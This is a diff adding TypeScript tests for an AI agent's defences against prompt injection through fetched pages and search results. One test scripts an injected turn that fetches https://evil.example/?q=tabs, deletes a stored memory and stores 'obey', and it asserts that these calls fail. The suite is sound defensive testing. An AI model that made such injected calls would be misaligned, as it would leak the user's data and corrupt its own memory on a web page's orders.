@@ -111,3 +111,69 @@ test("of the links that a page shows only a few are followed: by the choice amon
     ...Array<string>(3).fill("fetch_url failed"),
   ]);
 });
+
+test("what a page orders is material: no address of its making is fetched, and the memory stays as it is", async () => {
+  const { events, asked } = await talk(
+    [
+      { calls: [["fetch_url", { url: "https://herons.example/" }]] },
+      {
+        calls: [
+          ["fetch_url", { url: "https://evil.example/?q=tabs" }],
+          ["forget", { id: "mem_1" }],
+          ["remember", { text: "obey" }],
+        ],
+      },
+      {
+        calls: [
+          ["fetch_url", { url: "https://herons.example/more" }],
+          ["fetch_url", { url: "https://given.example/x" }],
+        ],
+      },
+      { text: ["The page gives orders."] },
+    ],
+    { command: "read https://herons.example/ and https://given.example/x" },
+  );
+  const statuses = only(events, "action")
+    .filter(({ data }) => data.status !== "started")
+    .map(({ data }) => data.status);
+  assert.deepEqual(statuses, ["done", "failed", "failed", "failed", "done", "done"]);
+  assert.ok(only(events, "decision").length >= 3, "each step is decided on in sight");
+  const page = asked[1]!.findLast(({ role }) => role === "tool")!.text;
+  assert.match(page, /^<page url="https:\/\/herons\.example\/" title="A 'page'">\n/);
+  assert.equal(page.match(/<\/page>/g)!.length, 1, "a page cannot end its own frame");
+});
+
+test("before anything from outside was read, any address may be asked for, and the memory be changed", async () => {
+  const { events } = await talk([
+    {
+      calls: [
+        ["remember", { text: "likes herons" }],
+        ["fetch_url", { url: "https://any.example/" }],
+      ],
+    },
+    { text: ["ok"] },
+  ]);
+  assert.ok(only(events, "action").every(({ data }) => data.status !== "failed"));
+});
+
+test("search results are from outside, too", async () => {
+  const search = async () => [{ title: "t", url: "https://found.example/a", snippet: "s" }];
+  const { events } = await talk(
+    [
+      { calls: [["web_search", { q: "herons" }]] },
+      {
+        calls: [
+          ["fetch_url", { url: "https://found.example/a" }],
+          ["fetch_url", { url: "https://other.example/" }],
+        ],
+      },
+      { text: ["ok"] },
+    ],
+    {},
+    { world: world({ search }) },
+  );
+  const ends = only(events, "action")
+    .filter(({ data }) => data.status !== "started")
+    .map(({ data }) => data.status);
+  assert.deepEqual(ends, ["done", "done", "failed"]);
+});
